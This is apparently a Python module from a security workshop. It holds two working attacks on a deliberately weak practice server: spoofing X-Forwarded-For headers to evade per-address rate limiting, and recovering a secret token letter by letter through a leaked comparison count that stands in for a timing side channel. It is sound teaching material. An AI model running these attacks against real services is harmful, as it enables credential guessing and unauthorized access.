"""Two attacks on what stands around the handlers: a false name, and a secret letter by letter.

Run them with `python3 -m workshop attack 7`. The shops tell in `X-Looked-At` how many letters of
the secret they have looked at. A real attacker reads that from a stopwatch, with many more tries.
"""

import itertools
import string

from workshop import kit
from workshop.attacks import Attack, Outcome, Target

FLOOD = 400  # requests; the shop allows 200 a second from one client
LETTERS = string.ascii_lowercase + "-"
LONGEST = 20  # letters of a secret
names = itertools.count()  # under which the guesses are made: no shop shall find them too many


def false_name(target: Target) -> Outcome:
    """Ask 400 times, under another name each time; the attack wins if nobody says 429."""
    client, refused = target.connect(), 0
    for number in range(FLOOD):
        fields = f"X-Forwarded-For: 10.0.{number // 250}.{number % 250}\r\n"
        client.send(f"GET / HTTP/1.1\r\nHost: a\r\n{fields}\r\n".encode())
        refused += client.read_response().status_code == 429
    client.close()
    saw = f"{FLOOD} requests, each with another X-Forwarded-For\n{refused} were refused (429)"
    return Outcome(refused == 0, saw)


def letter_by_letter(target: Target) -> Outcome:
    """Find the token by what the shop gives away; the attack wins if the vault opens."""
    client, known, tries = target.connect(), "", 0
    while len(known) < LONGEST:
        looks = {}
        for letter in LETTERS:
            status, looks[letter] = guess(client, known + letter)
            tries += 1
            if status == 200:
                client.close()
                return Outcome(True, f"{tries} guesses, and the token is {known + letter!r}")
            looks[letter] += guess(client, known + letter + "?")[1]  # one letter more to look at
        if len(set(looks.values())) == 1:
            break  # nothing to be seen
        known += max(looks, key=looks.__getitem__)
    client.close()
    return Outcome(False, f"after {tries} guesses the vault has told nothing")


def guess(client: kit.Client, token: str) -> tuple[int, int]:
    """Try a token: the status, and how many letters were looked at."""
    number = next(names)
    fields = f"X-Forwarded-For: 10.1.{number // 250 % 250}.{number % 250}\r\n"
    fields += f"Authorization: Bearer {token}\r\n"
    client.send(f"GET /vault HTTP/1.1\r\nHost: a\r\n{fields}\r\n".encode())
    reply = client.read_response()
    return reply.status_code, int(reply.header("x-looked-at") or 0)


ATTACKS = (
    Attack(
        "A false name in every request",
        story="Who asks too often is refused, by address. And who says which address it is?",
        victim="naive",
        run=false_name,
    ),
    Attack(
        "A secret, letter by letter",
        story="A comparison that stops at the first wrong letter tells where that was.",
        victim="naive",
        run=letter_by_letter,
    ),
)
